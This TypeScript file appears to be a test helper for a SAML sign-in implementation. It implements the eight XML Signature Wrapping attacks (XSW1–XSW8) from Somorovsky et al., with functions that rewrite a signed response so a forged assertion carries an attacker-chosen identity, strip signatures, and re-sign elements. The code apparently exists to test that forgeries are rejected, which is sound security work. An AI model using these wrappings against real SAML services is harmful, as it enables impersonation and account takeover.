import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import type { XMLSerializer as Serializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import type { KeyPair } from '../../signin/support.ts';

/**
 * DOM surgery on a signed response, for the attacks of Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be" (USENIX Security 2012), §5 "XML Signature Wrapping" and its figure of
 * eight wrapping variants.
 */
const NS = {
  ds: 'http://www.w3.org/2000/09/xmldsig#',
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
} as const;

/** The DOM of @xmldom/xmldom, narrowed to what the attacks touch (our tsconfig has no DOM lib). */
export interface Node {
  readonly nodeType: number;
  readonly parentNode: Node | null;
  readonly childNodes: ArrayLike<Node>;
  textContent: string | null;
  cloneNode(deep: boolean): Node;
  appendChild(child: Node): Node;
  removeChild(child: Node): Node;
  insertBefore(child: Node, before: Node | null): Node;
  replaceChild(child: Node, old: Node): Node;
}
export interface Element extends Node {
  readonly localName: string | null;
  readonly namespaceURI: string | null;
  getAttribute(name: string): string | null;
  setAttribute(name: string, value: string): void;
  getElementsByTagNameNS(ns: string, name: string): ArrayLike<Element>;
}
export interface Document extends Node {
  readonly documentElement: Element;
  createElementNS(ns: string, qualifiedName: string): Element;
  getElementsByTagNameNS(ns: string, name: string): ArrayLike<Element>;
}

export const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
export const serialize = (node: Node): string =>
  new XMLSerializer().serializeToString(node as unknown as Parameters<Serializer['serializeToString']>[0]);

const children = (el: Element, ns: string, name: string): Element[] =>
  Array.from(el.childNodes).filter(
    (n): n is Element =>
      n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name,
  );

const one = (el: Element, ns: string, name: string): Element => {
  const found = children(el, ns, name)[0];
  if (!found) throw new Error(`no ${name} under ${el.localName ?? ''}`);
  return found;
};

export const responseOf = (doc: Document): Element => doc.documentElement;
export const assertionOf = (doc: Document): Element => one(responseOf(doc), NS.saml, 'Assertion');
export const signatureOf = (el: Element): Element => one(el, NS.ds, 'Signature');

function withoutSignature(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  for (const sig of children(copy, NS.ds, 'Signature')) copy.removeChild(sig);
  return copy;
}

/** Puts `identity` where the ACS reads who signed in: the NameID and every AttributeValue equal to `from`. */
function impersonate(assertion: Element, from: string, identity: string): void {
  for (const tag of ['NameID', 'AttributeValue']) {
    for (const el of Array.from(assertion.getElementsByTagNameNS(NS.saml, tag)))
      if (el.textContent === from) el.textContent = identity;
  }
}

export type Wrapping = (doc: Document, from: string, identity: string) => void;

/**
 * The eight variants. XSW1–2 target a Response signature, XSW3–8 an Assertion signature; in each
 * the signed original stays intact (so its signature verifies) and an evil copy carries `identity`.
 */
export const XSW: Record<string, { signed: 'message' | 'assertion'; wrap: Wrapping }> = {
  // XSW1: the evil Response is the root; the original Response is moved into its Signature.
  XSW1: {
    signed: 'message',
    wrap(doc, from, identity) {
      const root = responseOf(doc);
      const original = withoutSignature(root);
      root.setAttribute('ID', '_evil-response');
      impersonate(assertionOf(doc), from, identity);
      signatureOf(root).appendChild(original);
    },
  },
  // XSW2: as XSW1, the original Response placed before the Signature (a detached signature).
  XSW2: {
    signed: 'message',
    wrap(doc, from, identity) {
      const root = responseOf(doc);
      const original = withoutSignature(root);
      root.setAttribute('ID', '_evil-response');
      impersonate(assertionOf(doc), from, identity);
      root.insertBefore(original, signatureOf(root));
    },
  },
  // XSW3: an evil Assertion (new ID, no signature) as first sibling of the signed one.
  XSW3: {
    signed: 'assertion',
    wrap(doc, from, identity) {
      const original = assertionOf(doc);
      const evil = withoutSignature(original);
      evil.setAttribute('ID', '_evil-assertion');
      impersonate(evil, from, identity);
      responseOf(doc).insertBefore(evil, original);
    },
  },
  // XSW4: the evil Assertion wraps the signed original as its child.
  XSW4: {
    signed: 'assertion',
    wrap(doc, from, identity) {
      const original = assertionOf(doc);
      const evil = withoutSignature(original);
      evil.setAttribute('ID', '_evil-assertion');
      impersonate(evil, from, identity);
      responseOf(doc).replaceChild(evil, original);
      evil.appendChild(original);
    },
  },
  // XSW5: the evil Assertion keeps the Signature; an unsigned copy of the original (its ID,
  // which the Reference names) is appended to the Response.
  XSW5: {
    signed: 'assertion',
    wrap(doc, from, identity) {
      const evil = assertionOf(doc);
      const copy = withoutSignature(evil);
      evil.setAttribute('ID', '_evil-assertion');
      impersonate(evil, from, identity);
      responseOf(doc).appendChild(copy);
    },
  },
  // XSW6: as XSW5, the copy of the original placed inside the evil Assertion's Signature.
  XSW6: {
    signed: 'assertion',
    wrap(doc, from, identity) {
      const evil = assertionOf(doc);
      const copy = withoutSignature(evil);
      evil.setAttribute('ID', '_evil-assertion');
      impersonate(evil, from, identity);
      signatureOf(evil).appendChild(copy);
    },
  },
  // XSW7: the signed original inside an Extensions element (whose schema allows any element),
  // the evil unsigned Assertion after it.
  XSW7: {
    signed: 'assertion',
    wrap(doc, from, identity) {
      const root = responseOf(doc);
      const original = assertionOf(doc);
      const evil = withoutSignature(original);
      impersonate(evil, from, identity);
      const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
      root.insertBefore(extensions, one(root, NS.samlp, 'Status'));
      root.replaceChild(evil, original);
      extensions.appendChild(original);
    },
  },
  // XSW8: the evil Assertion keeps the Signature, whose ds:Object holds the unsigned original.
  XSW8: {
    signed: 'assertion',
    wrap(doc, from, identity) {
      const evil = assertionOf(doc);
      const copy = withoutSignature(evil);
      evil.setAttribute('ID', '_evil-assertion');
      impersonate(evil, from, identity);
      const object = doc.createElementNS(NS.ds, 'ds:Object');
      object.appendChild(copy);
      signatureOf(evil).appendChild(object);
    },
  },
};

/** Removes every signature of the message. */
export function stripSignatures(doc: Document): void {
  for (const sig of Array.from(doc.getElementsByTagNameNS(NS.ds, 'Signature')))
    sig.parentNode?.removeChild(sig);
}

export { impersonate };

/**
 * Signs, with the IdP's own key, the element `xpath` selects, and puts the signature at
 * `location` (after its first child). A valid signature: only what it covers is the attack.
 */
export function signWithIdpKey(
  xml: string,
  keys: KeyPair,
  xpath: string,
  location: string,
  transforms: string[] = [
    'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
    'http://www.w3.org/2001/10/xml-exc-c14n#',
  ],
  extraTransform?: { algorithm: string; process: () => string },
): string {
  const sig = new SignedXml({
    privateKey: keys.key,
    publicCert: keys.cert,
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  if (extraTransform) {
    const { algorithm, process } = extraTransform;
    const algorithms = sig.CanonicalizationAlgorithms as Record<string, unknown>;
    algorithms[algorithm] = class {
      includeComments = false;
      getAlgorithmName = () => algorithm;
      process = process;
    };
  }
  sig.addReference({ xpath, transforms, digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256' });
  sig.computeSignature(xml, { prefix: 'ds', location: { reference: location, action: 'after' } });
  return sig.getSignedXml();
}
